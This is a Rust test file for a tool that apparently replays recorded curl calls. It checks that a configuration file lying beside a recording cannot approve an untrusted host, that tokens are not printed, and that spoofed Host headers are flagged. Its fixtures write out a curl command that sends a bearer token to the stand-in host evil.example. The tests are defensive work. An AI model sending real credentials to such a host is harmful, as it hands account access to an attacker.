//! What lies beside a recording decides about no host.

use serde_json::json;

use crate::desk::command::{Said, folder};
use crate::room::Room;

const ROLES: &str = "/identity/resources/roles/v1";
const EVIL: &str = "environments:\n  - name: evil\n    hosts: [evil.example]\n";

fn call(host: &str, path: &str, token: &str) -> String {
    format!("curl https://{host}{path} -H 'Authorization: Bearer {token}'\n")
}

fn told(said: &Said) -> String {
    said.out.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[test]
fn a_host_of_the_configuration_beside_the_recording_is_told_nothing() {
    let room = Room::new();
    let token = room.vendor();
    let text = call("evil.example", ROLES, &token);
    room.file("bundle/.frontegg-lint.yaml", EVIL);
    room.file("bundle/call.sh", &text);
    let elsewhere = folder(&[(".frontegg-lint.yaml", EVIL), ("call.sh", &text)]);
    let outside = elsewhere.path().join("call.sh");
    for path in ["bundle/call.sh", outside.to_str().unwrap()] {
        let said = room.run(&[path, "--as-recorded"], "");
        assert_eq!(said.code, 2, "{}", said.all());
        let wanted = "listed in the configuration of this folder";
        assert!(told(&said).contains(wanted), "{}", said.all());
        assert!(!said.all().contains(&token));
    }
    assert_eq!(room.mock.connections(), 0);
}

#[test]
fn a_host_of_the_configuration_here_is_told_whatever_lies_beside_the_recording() {
    let room = Room::new();
    room.file("bundle/.frontegg-lint.yaml", "# nothing\n");
    room.file("bundle/call.sh", &call("evil.example", ROLES, &room.vendor()));
    room.file("named.yaml", EVIL);
    let dry = ["bundle/call.sh", "--as-recorded", "--dry-run"];
    let line = format!("GET https://evil.example{ROLES}, with the recorded `authorization`\n");
    let said = room.run(&[&dry[..], &["--config", "named.yaml"]].concat(), "");
    assert_eq!((said.code, &said.out), (0, &line), "{}", said.all());
    let room = room.configured(EVIL);
    let said = room.run(&dry, "");
    assert_eq!((said.code, &said.out), (0, &line), "{}", said.all());
    let said = room.run(&[&dry[..], &["--no-config"]].concat(), "");
    assert_eq!(said.code, 2, "{}", said.all());
}

#[test]
fn the_configuration_beside_the_recording_still_fills_what_corrections_need() {
    let room = Room::new();
    let account = room.account().clone();
    let text = call(&account.gateway, "/identity/resources/groups/v1", &room.vendor());
    room.file("bundle/.frontegg-lint.yaml", &format!("tenant-id: {}\n", account.tenant_id));
    room.file("bundle/call.sh", &text);
    let said = room.run(&["bundle/call.sh", "--format", "json"], "");
    assert_eq!((said.code, &said.json()["shows"]), (0, &json!("corrected-works")));
}

#[test]
fn a_host_header_beside_another_address_is_noticed() {
    let room = Room::new();
    let (host, token) = (room.account().gateway.clone(), room.vendor());
    let text = |address: &str, host: &str| {
        call(address, ROLES, &token).replace(" -H", &format!(" -H 'Host: {host}' -H"))
    };
    for address in ["10.0.0.5", "evil.example"] {
        let said = room.run(&["-"], &text(address, &host));
        assert_eq!(said.code, 0, "{}", said.all());
        assert!(told(&said).contains("`Host` header name different hosts"), "{}", said.all());
        let said = room.run(&["-", "--dry-run"], &text(address, &host));
        assert!(said.err.contains("`Host` header name different hosts"), "{}", said.all());
    }
    let same = room.run(&["-", "--format", "json"], &text(&host, &host.to_uppercase()));
    assert_eq!((same.code, &same.json()["names_two_hosts"]), (0, &json!(false)));
    let connections = room.mock.connections();
    let said = room.run(&["-", "--as-recorded"], &text(&host, "evil.example"));
    assert_eq!(said.code, 2, "{}", said.all());
    assert!(room.mock.seen().iter().all(|seen| seen.host == host));
    assert_eq!(room.mock.connections(), connections);
}
